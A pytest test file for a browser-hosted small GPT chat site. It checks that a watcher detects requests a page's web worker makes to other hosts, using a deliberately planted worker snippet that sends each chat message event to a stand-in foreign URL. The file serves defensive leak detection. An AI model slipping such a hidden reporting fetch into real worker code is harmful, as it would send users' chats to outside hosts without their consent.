"""The visitor of these tests notices what a page and its worker ask of other hosts."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from live_site import Visitor, build, page, visited

from minillm import GPT, GPTConfig, Tokenizer

FOREIGN = "http://127.0.0.1:9/secret"  # where nobody listens
LATE = '<script>setTimeout(() => fetch("late.txt"), 300)</script>'
LEAK = f"""
addEventListener("message", ({{ data }}) => data.do === "chat" && fetch("{FOREIGN}").catch(() => {{}}));
"""


@pytest.fixture(scope="module")
def tokenizer() -> Tokenizer:
    return Tokenizer.train(["Hello there, where is the hat?"], 270)


@pytest.fixture(scope="module")
def model() -> GPT:
    return GPT(GPTConfig(vocab_size=270, context_length=60, n_layer=1, n_head=1, d_model=8))


@pytest.fixture(scope="module")
def visitor(tmp_path_factory: pytest.TempPathFactory, folder: Path) -> Iterator[Visitor]:
    """A site whose worker is sound, and one whose worker tells another host of each question."""
    site = tmp_path_factory.mktemp("site")
    for root in (site, site / "leak"):
        build(root, {"sft": lambda target: shutil.copytree(folder, target)})
    worker = site / "leak" / "_static" / "live" / "worker.js"
    worker.write_text(worker.read_text(encoding="utf-8") + LEAK, encoding="utf-8")
    (site / "late.txt").write_text("late", encoding="utf-8")
    pages = {
        "sound.html": page("chat", stage="sft"),
        "leak.html": page("chat", "leak/", stage="sft"),
        "late.html": page("chat", body=LATE, stage="sft"),
    }
    with visited(site, pages) as someone:
        yield someone


def test_what_comes_late_is_noticed(visitor: Visitor) -> None:
    """Also by someone who asks the browser nothing meanwhile."""
    visitor.open("late.html")
    visitor.wait(lambda: f"{visitor.origin}late.txt" in visitor.requests())


def test_a_worker_is_watched(visitor: Visitor) -> None:
    for name, found in (("sound.html", set()), ("leak.html", {f"asks another host: {FOREIGN}"})):
        visitor.open(name)
        visitor.type("Hello")
        visitor.key("Enter")
        visitor.wait(lambda: "a second" in visitor.status())
        visitor.wait(lambda found=found: found <= visitor.problems())  # the worker may answer before it tells
        assert {problem for problem in visitor.problems() if "another host" in problem} == found
        assert sorted(visitor.loaded()) == [
            "config.json",
            "manifest.json",
            "model.safetensors",
            "tokenizer.json",
        ]
